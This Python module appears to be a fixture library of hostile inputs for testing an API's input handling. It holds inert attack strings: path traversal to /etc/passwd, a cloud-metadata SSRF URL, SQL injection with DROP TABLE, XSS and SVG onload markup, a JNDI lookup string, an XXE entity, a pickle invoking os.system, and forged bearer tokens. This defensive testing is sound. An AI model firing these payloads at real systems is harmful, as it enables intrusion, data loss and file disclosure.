"""Hostile values, as bytes: what clients send by mistake, and what attackers send on purpose."""

MEGABYTE = 2**20
_TEXTS = {
    "nothing": "",
    "a space": " ",
    "a tab": "a\tb",
    "a line": "a\nb",
    "text": "hostile",
    "null": "null",
    "true": "true",
    "yes": "Yes",
    "not a number": "NaN",
    "no end": "inf",
    "beyond a double": "1e400",
    "a minus": "-1",
    "zero": "0",
    "a fraction": "0.5",
    "a number with a space": " 5",
    "a number with an underscore": "5_000",
    "digits of another script": "\u0665\u0665",
    "beyond 64 bits": "9" * 30,
    "a list": "[1]",
    "an object": "{}",
    "a climb": "../../../etc/passwd",
    "a climb of windows": "..\\..\\windows\\win.ini",
    "an address inside": "http://169.254.169.254/latest",
    "a file address": "file:///etc/passwd",
    "sql": "' OR 1=1; DROP TABLE project; --",
    "sql wildcards": "%_%'\"\\",
    "markup": '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "a formula": '=HYPERLINK("http://x")',
    "a format": "%s%n{0.__class__}${jndi:ldap://x}",
    "right to left": "abc\u202egnp.exe",
    "zero width": "a\u200b\u2060b\ufeff",
    "beyond the first plane": "\U0001f9ea" * 3,
    "combined": "e" + "\u0301" * 200,
    "a day that is none": "2026-02-30",
    "a time without offset": "2026-11-02T09:14:03",
    "a time of year zero": "0000-00-00T00:00:00Z",
    "513 characters": "x" * 513,
    "10,001 characters": "x" * 10_001,
}
TEXTS: dict[str, bytes] = {name: text.encode() for name, text in _TEXTS.items()}
CONTROLS = {"NUL": b"a\0b", "an escape": b"\x1b[31mred", "a delete": b"a\x7fb"}
"""In no name or parameter."""
NO_UTF8 = {"no UTF-8": b"\xff\xfe", "a surrogate in UTF-8": b"\xed\xa0\x80", "an overlong slash": b"..\xc0\xaf"}


def quoted(text: bytes) -> bytes:
    """JSON of a text, as short as it goes."""
    escapes = {ord('"'): b'\\"', ord("\\"): b"\\\\"}
    return b'"%s"' % b"".join(escapes.get(c, b"\\u%04x" % c if c < 32 else bytes([c])) for c in text)


VALUES: dict[str, bytes] = {f"{name} as text": quoted(text) for name, text in TEXTS.items()} | {
    "null": b"null",
    "true": b"true",
    "false": b"false",
    "zero": b"0",
    "minus zero": b"-0.0",
    "a minus": b"-1",
    "a fraction": b"0.5",
    "a whole fraction": b"2.0",
    "nearly nothing": b"5e-324",
    "nearly everything": b"1.7976931348623157e308",
    "2^31": b"2147483648",
    "2^53": b"9007199254740993",
    "2^63": b"9223372036854775808",
    "30 digits": b"9" * 30,
    "5,000 digits": b"9" * 5_000,
    "an empty list": b"[]",
    "a list of null": b"[null]",
    "a list of lists": b"[[[]]]",
    "a list of mixed values": b'[1, "a", null, {}]',
    "20,000 zeros": b"[" + b"0," * 19_999 + b"0]",
    "an empty object": b"{}",
    "an object": b'{"hostile": 1}',
    "a prototype": b'{"__proto__": {"admin": true}}',
    "a key twice": b'{"a": 1, "a": 2}',
    "a key with a NUL": b'{"a\\u0000b": 1}',
    "a key without letters": b'{"": {"": {}}}',
    "a nested object": b'{"a": {"b": {"c": [1]}}}',
    "a megabyte": b'"%s"' % (b"x" * MEGABYTE),
}
"""JSON that can be read; whether a field takes it is for its schema to say."""
IMPOSSIBLE: dict[str, bytes] = {
    "NaN": b"NaN",
    "Infinity": b"-Infinity",
    "beyond a double": b"1e400",
    "half a surrogate pair": b'"\\ud800"',
    "surrogates the wrong way round": b'"\\udc00\\ud800"',
    "no UTF-8": b'"\xff\xfe"',
    "a surrogate in UTF-8": b'"\xed\xa0\x80"',
    "a raw NUL": b'"a\0b"',
    "a raw line": b'"a\nb"',
    "a hexadecimal number": b"0x10",
    "a leading zero": b"007",
    "a plus": b"+1",
    "an open text": b'"open',
    "a trailing comma": b"[1,]",
    "a comment": b"1 /* one */",
    "single quotes": b"'a'",
    "undefined": b"undefined",
    "40 lists": b"[" * 40 + b"]" * 40,
    "5,000 lists": b"[" * 5_000 + b"]" * 5_000,
    "5,000 objects": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "201 keys": b"{%s}" % b",".join(b'"k%d": 1' % i for i in range(201)),
}
"""What no field takes: no JSON, or beyond what a body may hold."""
CONTENTS: dict[str, bytes] = {
    "nothing": b"",
    "a brace": b"{",
    "zeros": b"\0" * 1_000,
    "an archive that breaks off": b"PK\x03\x04" + b"\0" * 40,
    "gzip that breaks off": b"\x1f\x8b\x08\0\0\0\0\0\0\xff",
    "an entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a picture that breaks off": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\xff\xff\xff\xff\xff",
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "deep lists": b"[" * 5_000,
    "a pickle": b"\x80\x04cos\nsystem\n(S'true'\ntR.",
    "lines of no JSON": b"a\nb\n\xff\n",
}
"""Of a body that is no JSON."""
AUTHORISATIONS: dict[str, bytes] = {
    "nothing": b"",
    "another scheme": b"Basic YWRtaW46YWRtaW4=",
    "a scheme alone": b"Bearer",
    "a key of nobody": b"Bearer lqa_" + b"0" * 49,
    "two keys": b"Bearer lqa_a, Bearer lqa_b",
    "a token without signature": b"Bearer eyJhbGciOiJub25lIn0.e30.",
    "bytes": b"Bearer \xff\xfe\xe9",
    "sql": b"Bearer ' OR 1=1 --",
    "10,000 characters": b"Bearer " + b"x" * 10_000,
}
HEADERS: dict[str, bytes] = {
    **{name: TEXTS[name] for name in ("nothing", "a tab", "sql", "markup", "a climb", "right to left", "a minus")},
    "bytes": b"\xff\xfe\xe9",
    "300 characters": b"x" * 300,
    "a weak tag": b'W/"x"',
    "many ranges": b"bytes=" + b"0-1," * 5_000,
    "ranges the wrong way round": b"bytes=9-1,-0,-",
    "a range of 30 digits": b"bytes=%s-" % (b"9" * 30),
    "a quote": b'"',
    "a star": b"*",
}
